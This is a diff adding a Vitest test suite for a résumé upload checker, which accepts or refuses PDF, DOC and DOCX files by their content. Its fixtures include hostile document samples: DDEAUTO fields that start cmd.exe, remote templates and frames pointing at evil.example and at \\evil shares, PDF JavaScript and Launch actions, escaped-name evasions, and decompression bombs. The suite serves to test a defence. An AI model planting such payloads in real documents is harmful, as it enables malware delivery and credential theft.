@@ -1,0 +1,420 @@
+/// <reference types="vite/types/importMeta.d.ts" />
+/** What is taken as a résumé, and what is refused. The files in documents/ were saved by the programs in their names. */
+import { strToU8, type Zippable } from 'fflate';
+import { describe, expect, test } from 'vitest';
+import { resumeMessages, type ResumeExtension } from '@/shared/forms/resume';
+import { inspectResume, problems } from '../../functions/resumes/inspect';
+import {
+  bytesOf,
+  doc,
+  docx,
+  joined,
+  objectStream,
+  ole,
+  pdf,
+  related,
+  relations,
+  types,
+  zip,
+} from './documents';
+
+type Bytes = Uint8Array<ArrayBuffer>;
+type Relation = Parameters<typeof related>[number];
+const { notWord, locked, tooMuch, macros, remote, embedded, active, unreadable } = problems;
+const MB = 1024 * 1024;
+
+/** Returns the kind of an accepted file, or the message about a refused one. */
+async function inspect(bytes: Bytes, named?: ResumeExtension) {
+  const inspected = await inspectResume(bytes, named);
+  return 'problem' in inspected ? inspected.problem : inspected.extension;
+}
+
+const saved = Object.entries(
+  import.meta.glob<string>('./documents/*', { query: '?url&inline', import: 'default', eager: true }),
+).map(([path, url]): [string, Bytes] => [
+  path.replace('./documents/', ''),
+  Uint8Array.fromBase64(url.split(',')[1] ?? ''),
+]);
+
+describe('documents saved by real programs', () => {
+  const isLocked = (name: string) => name.includes('-user-password-');
+
+  test.each(saved.filter(([name]) => !isLocked(name)))('%s is taken', async (name, bytes) => {
+    const extension = name.split('.').pop() as ResumeExtension;
+    expect(await inspect(bytes, extension)).toBe(extension);
+    expect(await inspect(bytes)).toBe(extension);
+  });
+
+  test.each(saved.filter(([name]) => isLocked(name)))('%s is refused', async (_, bytes) => {
+    expect(await inspect(bytes, 'pdf')).toBe(locked);
+  });
+
+  test('exist for each kind, and with each encryption', () => {
+    expect(new Set(saved.map(([name]) => name.split('.').pop()))).toEqual(new Set(['pdf', 'doc', 'docx']));
+    expect(saved.filter(([name]) => isLocked(name))).toHaveLength(4);
+  });
+});
+
+describe('a file is what its first bytes say', () => {
+  test.each<[string, Bytes, ResumeExtension, string]>([
+    ['a byte order mark before a PDF', joined(bytesOf('\xef\xbb\xbf'), pdf()), 'pdf', 'pdf'],
+    ['line ends before a PDF', joined(bytesOf('\r\n\n'), pdf()), 'pdf', 'pdf'],
+    ['a printer’s commands before a PDF', joined(bytesOf('\x1b%-12345X@PJL\r\n'), pdf()), 'pdf', 'pdf'],
+    ['a DOCX named as a DOC', docx(), 'doc', 'docx'],
+    ['a DOC named as a DOCX', doc(), 'docx', 'doc'],
+    ['RTF named as a DOC', bytesOf('{\\rtf1\\ansi Elena Marsh}'), 'doc', notWord],
+    ['HTML named as a DOC', bytesOf('\r\n<html><body>Elena Marsh</body></html>'), 'doc', notWord],
+    ['MHTML named as a DOC', bytesOf('MIME-Version: 1.0\r\nContent-Type: multipart/related'), 'doc', notWord],
+    [
+      'Word’s XML of 2003 named as a DOC',
+      bytesOf('<?mso-application progid="Word.Document"?>'),
+      'doc',
+      notWord,
+    ],
+    ['an OpenDocument named as a DOCX', zip({ 'content.xml': bytesOf('<office/>') }), 'docx', notWord],
+    ['a spreadsheet named as a DOC', ole('Workbook'), 'doc', notWord],
+    ['a PDF named as a DOCX', pdf(), 'docx', notWord],
+    ['a DOCX named as a PDF', docx(), 'pdf', resumeMessages.type],
+    ['a program named as a PDF', bytesOf('MZ\x90\0\x03'), 'pdf', resumeMessages.type],
+    ['HTML named as a PDF', bytesOf('<!doctype html><script>alert(1)</script>'), 'pdf', resumeMessages.type],
+    ['HTML before a PDF', joined(bytesOf('<script>alert(1)</script>\n'), pdf()), 'pdf', resumeMessages.type],
+    ['a truncated DOCX', docx().slice(0, -30), 'docx', unreadable],
+    ['a DOCX with a password', ole('EncryptionInfo', 'EncryptedPackage'), 'docx', locked],
+  ])('%s', async (_, bytes, named, outcome) => {
+    expect(await inspect(bytes, named)).toBe(outcome);
+  });
+
+  test.each([
+    ['a PDF', pdf(), 'pdf'],
+    ['a DOC', doc(), 'doc'],
+    ['a DOCX', docx(), 'docx'],
+    ['a picture', bytesOf('\xff\xd8\xff\xe0'), resumeMessages.type],
+  ])('without an extension, too: %s', async (_, bytes, outcome) => {
+    expect(await inspect(bytes)).toBe(outcome);
+  });
+});
+
+const OWN_FILES = [
+  'file:///C:\\Users\\Elena\\AppData\\Roaming\\Microsoft\\Templates\\Modern%20resume.dotx',
+  'file:///Users/elena/Templates/Resume.dotx',
+  'file:////Users/elena/Library/Templates/Resume.dotx',
+  'file:////Volumes/Data/Resume.dotx',
+  'file:////Applications/Microsoft%20Word.app/Contents/Resources/Normal.dotm',
+  'file://localhost/Users/elena/Resume.dotx',
+  'file://localhost/Macintosh%20HD:Users:elena:Normal.dotm',
+  'file://C:\\Templates\\Resume.dotx',
+  'C:\\Templates\\Resume.dotx',
+  'Macintosh HD:Users:elena:Normal.dotm',
+  'Normal.dotm',
+];
+const SHARES = [
+  '\\\\evil\\s',
+  'file://evil/s',
+  'file:////evil/s',
+  'file://///evil/s',
+  '//evil/s',
+  '%5c%5cevil%5cs',
+];
+const SERVERS = [
+  'https://evil.example/t',
+  'http://evil.example/t',
+  'mhtml:https://evil.example/t',
+  '&#x68;ttps://evil.example/t',
+];
+const LINKS = [
+  ...[
+    'https://www.linkedin.com/in/elena?a=b&amp;c=%20',
+    'mailto:elena@example.com',
+    'tel:+13055550142',
+    'www.elena.example',
+  ],
+  ...[
+    'skype:elena?call',
+    'sms:+13055550142',
+    'whatsapp://send',
+    'about:blank',
+    'Email:elena@example.com',
+    'htttps://elena.example',
+  ],
+  ...[
+    'file://nas/home/certificate.pdf',
+    '\\\\nas\\home\\certificate.pdf',
+    'file:///C:/Users/Elena/certificate.pdf',
+  ],
+];
+
+const text = '<w:p><w:r><w:t>Skills: VBA, Macros, JavaScript, DDE</w:t></w:r></w:p>'.repeat(200);
+const documentXml = (body: string) =>
+  docx({ 'word/document.xml': strToU8(`<w:document>${body}</w:document>`) });
+const character = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
+const written = (instruction: string) =>
+  `<w:r><w:instrText xml:space="preserve">${instruction}</w:instrText></w:r>`;
+const field = (...inside: string[]) =>
+  [character('begin'), ...inside, character('separate'), '<w:t>DDE</w:t>', character('end')].join('');
+const PROGRAM = 'DDEAUTO c:\\\\windows\\\\cmd.exe /k';
+
+/** A document of Word Online, whose main part has another name. */
+const renamed = (parts: Zippable) =>
+  zip({
+    '_rels/.rels': relations(['officeDocument', 'word/document2.xml']),
+    'word/document2.xml': strToU8('<w:document/>'),
+    'word/_rels/document2.xml.rels': relations(['hyperlink', 'https://elena.example', 'External']),
+    ...parts,
+  });
+
+const utf16 = (xml: string) => bytesOf(`\xff\xfe${[...xml].map((sign) => `${sign}\0`).join('')}`);
+
+/** A document with a chart, whose numbers are in a workbook. */
+const withChart = (workbook: string) =>
+  docx({
+    'word/_rels/document.xml.rels': relations(['chart', 'charts/chart1.xml']),
+    'word/charts/_rels/chart1.xml.rels': relations(['package', `../embeddings/${workbook}`]),
+    [`word/embeddings/${workbook}`]: [zip({ 'xl/workbook.xml': strToU8('<workbook/>') }), { level: 0 }],
+  });
+
+describe('a DOCX is taken', () => {
+  test.each<[string, Bytes]>([
+    ['from Word Online, by its content type', renamed(types('word/document2.xml'))],
+    ['from Word Online, by its relationship', renamed({ '[Content_Types].xml': strToU8('<Types/>') })],
+    ['with a zero after its end', joined(docx(), bytesOf('\0'))],
+    ['with links of any scheme', related(...LINKS.map((link): Relation => ['hyperlink', link, 'External']))],
+    ...OWN_FILES.map((target): [string, Bytes] => [
+      `with the template ${target}`,
+      related(['attachedTemplate', target, 'External']),
+    ]),
+    ['with a picture from an email', related(['image', 'cid:image001.png@01DBE0F4.1A2B3C40', 'External'])],
+    ['with a lost picture', related(['image', 'NULL', 'External'])],
+    ['with a chart', withChart('Microsoft_Excel_Worksheet.xlsx')],
+    [
+      'with a chart that is linked to the author’s workbook',
+      related(['oleObject', 'file:///C:\\Users\\Elena\\Book1.xlsx', 'External']),
+    ],
+    ...[
+      '<a><![CDATA[<Relationship>]]></a>',
+      '<!-- made by a program --><a/>',
+      '<!DOCTYPE a><a/>',
+      '\xff',
+    ].map((xml): [string, Bytes] => [`with the data ${xml}`, docx({ 'customXml/item1.xml': bytesOf(xml) })]),
+    ['with data in UTF-16', docx({ 'customXml/item1.xml': utf16('<?xml encoding="utf-16"?><a/>') })],
+    [
+      'with fields',
+      documentXml(
+        [
+          ' PAGE  \\* MERGEFORMAT ',
+          ' HYPERLINK "\\\\\\\\nas\\\\home\\\\ddeauto.pdf" \\o "DDE" ',
+          ' INCLUDEPICTURE "https://lh3.example/a.png" \\* MERGEFORMATINET ',
+          ' TOC \\o "1-3" \\h \\z \\u ',
+          ' FILENAME "C:\\\\Users\\\\Elena\\\\resume.docx" ',
+        ]
+          .map((instruction) => field(written(instruction)))
+          .join(text),
+      ),
+    ],
+  ])('%s', async (_, bytes) => {
+    expect(await inspect(bytes, 'docx')).toBe('docx');
+  });
+});
+
+const MACROS = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+const DOCM =
+  '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>';
+
+describe('a DOCX is refused', () => {
+  test.each<[string, Bytes, string]>([
+    ['with macros', docx({ ...types(undefined, MACROS), 'word/vbaProject.bin': bytesOf('x') }), macros],
+    ['with macros by another name', related(['vbaProject', 'notes.bin']), macros],
+    ['that was a DOCM', docx({ '[Content_Types].xml': strToU8(`<Types>${DOCM}</Types>`) }), macros],
+    ['with a program as a package', related(['package', 'embeddings/evil.exe']), embedded],
+    ['with an ActiveX control', related(['control', 'activeX/activeX1.xml']), embedded],
+    ['with a page inside', related(['aFChunk', 'chunk.mht']), embedded],
+    ...[...SERVERS, ...SHARES].flatMap((target) =>
+      (['attachedTemplate', 'image', 'frame', 'subDocument', 'mailMergeSource', 'oleObject'] as const).map(
+        (type): [string, Bytes, string] => [
+          `with the ${type} ${target}`,
+          related([type, target, 'External']),
+          remote,
+        ],
+      ),
+    ),
+    ['with a share that it calls its own', related(['image', '\\\\evil\\s.png']), remote],
+    [
+      'with other quotes, prefixes and order',
+      docx({
+        'word/_rels/settings.xml.rels': strToU8(
+          "<x:Relationship TargetMode='external' Target='https://evil.example/t' Type='x/attachedTemplate'></x:Relationship>",
+        ),
+      }),
+      remote,
+    ],
+    [
+      'with relationships in UTF-16',
+      docx({ 'word/_rels/document.xml.rels': utf16('<Relationship Type="x/frame" Target="http://evil"/>') }),
+      remote,
+    ],
+    ['with a field that starts a program', documentXml(field(written(` ${PROGRAM} `))), embedded],
+    [
+      'with one inside another field',
+      documentXml(field(written('IF 1 = 1 '), field(written(PROGRAM)))),
+      embedded,
+    ],
+    [
+      'with one in a header',
+      docx({ 'word/header1.xml': strToU8(`<w:fldSimple w:instr="${PROGRAM}"/>`) }),
+      embedded,
+    ],
+    ['that unpacks to 8 MB', docx({ 'word/media/image1.png': new Uint8Array(8 * MB) }), tooMuch],
+    ['with 20 MB of text', docx({ 'word/document.xml': new Uint8Array(20 * MB) }), tooMuch],
+  ])('%s', async (_, bytes, problem) => {
+    expect(await inspect(bytes, 'docx')).toBe(problem);
+  });
+});
+
+describe('a DOC', () => {
+  test.each<[string, Bytes, string]>([
+    [
+      'with a spreadsheet and a formula is taken',
+      ole('WordDocument', 'ObjectPool', 'Workbook', 'Equation Native'),
+      'doc',
+    ],
+    ['with macros is refused', ole('WordDocument', 'Macros', 'VBA'), macros],
+    ['with macros in an embedded spreadsheet is refused', ole('WordDocument', '_VBA_PROJECT_CUR'), macros],
+    [
+      'with a file of the Packager is refused',
+      ole('WordDocument', 'ObjectPool', '\x01Ole10Native'),
+      embedded,
+    ],
+    ['with an ActiveX control is refused', ole('WordDocument', '\x03OCXNAME'), embedded],
+  ])('%s', async (_, bytes, outcome) => {
+    expect(await inspect(bytes, 'doc')).toBe(outcome);
+  });
+});
+
+const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>';
+const attachment = (name: string) =>
+  `5 0 obj << /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 6 0 R >> >> endobj 6 0 obj << /Type /EmbeddedFile /Subtype /text#2Fxml /Length 4 >> stream\n<a/>\nendstream endobj`;
+
+describe('a PDF is taken', () => {
+  test.each<[string, Bytes]>([
+    ['with a network path as its title', pdf('', { info: '/Title (\\\\\\\\nas\\\\home\\\\CV.doc)' })],
+    [
+      'with XML attached, as Europass does',
+      pdf(attachment('europass.xml'), { catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>' }),
+    ],
+    [
+      'with forbidden names in a string',
+      pdf('3 0 obj (HTML/CSS/JavaScript, (/JS (x)) \\) /S /Launch 100%) endobj'),
+    ],
+    ['with forbidden names in a comment', pdf('% /S /JavaScript /JS (x)\r3 0 obj null endobj')],
+    [
+      'with forbidden names in a page',
+      pdf('4 0 obj << /Length 44 >> stream\n(/S /JavaScript) Tj /JS (x)\nendstream endobj'),
+    ],
+    ['with forbidden names in a compressed string', pdf(objectStream('(HTML/CSS /S /JavaScript)'))],
+    ['with names that only begin like that', pdf('3 0 obj << /JSX 1 /S /LaunchPad /JavaScripts 3 >> endobj')],
+    [
+      'with a place called JavaScript',
+      pdf('3 0 obj << /Dest /JavaScript >> endobj 4 0 obj << /JavaScript [2 0 R /Fit] >> endobj'),
+    ],
+    [
+      'with links to pages and files',
+      pdf(
+        '3 0 obj << /A << /S /URI /URI (file:///C:/a.pdf) >> >> endobj 4 0 obj << /A << /S /GoToR /F (papers.pdf) /D [0 /Fit] >> >> endobj',
+      ),
+    ],
+    [
+      'that opens at a place',
+      pdf('3 0 obj << /A << /S /URI /URI (https://elena.example) >> >> endobj', {
+        catalog: '/OpenAction [2 0 R /XYZ null null 0]',
+      }),
+    ],
+    [
+      'with a form',
+      pdf('5 0 obj << /FT /Btn /A << /S /ResetForm >> >> endobj', {
+        catalog: '/AcroForm << /Fields [5 0 R] /NeedAppearances true >>',
+      }),
+    ],
+  ])('%s', async (_, bytes) => {
+    expect(await inspect(bytes, 'pdf')).toBe('pdf');
+  });
+});
+
+describe('a PDF is refused', () => {
+  test.each<[string, Bytes, string]>([
+    ['with a script', pdf(`3 0 obj ${SCRIPT} endobj`), active],
+    ['with scripts of the document', pdf('', { catalog: '/Names << /JavaScript 5 0 R >>' }), active],
+    ['with a program', pdf('3 0 obj << /S /Launch /F (cmd.exe) >> endobj'), active],
+    ['with an escaped name', pdf('3 0 obj << /S /J#61va#53cript >> endobj'), active],
+    ['with a comment between the names', pdf('3 0 obj << /S % a\n/JavaScript >> endobj'), active],
+    ['with a script after a string', pdf(`3 0 obj (a \\( b (c) \\\\) ${SCRIPT} endobj`), active],
+    ['with a script in an object stream', pdf(objectStream(SCRIPT)), active],
+    [
+      'with a form that sends itself',
+      pdf('4 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj'),
+      active,
+    ],
+    ['with a form with scripts of its own', pdf('', { catalog: '/AcroForm << /XFA [(a) 5 0 R] >>' }), active],
+    [
+      'that opens what is attached',
+      pdf('', { catalog: '/OpenAction << /S /GoToE /T << /R /C >> >>' }),
+      active,
+    ],
+    [
+      'that opens a file on a share',
+      pdf('', { catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>' }),
+      active,
+    ],
+    [
+      'that opens a page of the web',
+      pdf('5 0 obj << /S /URI /URI (https://evil.example/) >> endobj', { catalog: '/OpenAction 5 0 R' }),
+      active,
+    ],
+    [
+      'whose objects are broken',
+      pdf(bytesOf('7 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\nno zlib\nendstream endobj\n')),
+      unreadable,
+    ],
+    [
+      'whose objects are packed in another way',
+      pdf('7 0 obj << /Type /ObjStm /First 4 /Filter /ASCIIHexDecode >> stream\n38>\nendstream endobj'),
+      unreadable,
+    ],
+    ['whose objects unpack to 20 MB', pdf(objectStream('()'.repeat(10 * MB))), tooMuch],
+    [
+      'with an encryption that we do not know',
+      pdf('', { trailer: '/Encrypt << /Filter /Adobe.PubSec /V 4 >>' }),
+      locked,
+    ],
+  ])('%s', async (_, bytes, problem) => {
+    expect(await inspect(bytes, 'pdf')).toBe(problem);
+  });
+});
+
+describe('the worst files are given up, or checked, at once', () => {
+  const filled = (unit: string) => bytesOf(`%PDF-1.7\n${unit.repeat(Math.ceil((5 * MB) / unit.length))}`);
+  const many = (part: Bytes) => joined(pdf(), ...Array<Bytes>(Math.floor((5 * MB) / part.length)).fill(part));
+  const parts = (count: number, content: Uint8Array) =>
+    docx(Object.fromEntries(Array.from({ length: count }, (_, at) => [`word/${at}.xml`, content])));
+
+  test.each<[string, () => Bytes]>([
+    ['brackets', () => filled('<<')],
+    ['strings that do not end', () => filled('(\\(')],
+    ['actions', () => filled('/AA<<5 0 R ')],
+    ['streams without an end', () => filled('>>stream\n')],
+    ['object streams', () => many(objectStream('null'))],
+    ['object streams that are bombs', () => many(objectStream('()'.repeat(4 * MB)))],
+    ['escapes in an object stream', () => pdf(objectStream('#41'.repeat(2.5 * MB)))],
+    ['a part that is a bomb', () => parts(1, new Uint8Array(200 * MB))],
+    ['tags that do not end', () => documentXml('<w:instrText "'.repeat(250_000))],
+    ['relationships', () => docx({ 'word/_rels/a.rels': strToU8('<Relationship/>'.repeat(250_000)) })],
+    [
+      'nothing after the signature of a zip file',
+      () => joined(bytesOf('PK\x03\x04'), new Uint8Array(5 * MB)),
+    ],
+  ])('%s', async (_, build) => {
+    const file = build();
+    const start = performance.now();
+    await inspect(file);
+    // They take up to half a second on an idle machine; work that grows with the square of the size takes minutes.
+    expect(performance.now() - start).toBeLessThan(5000);
+  });
+});
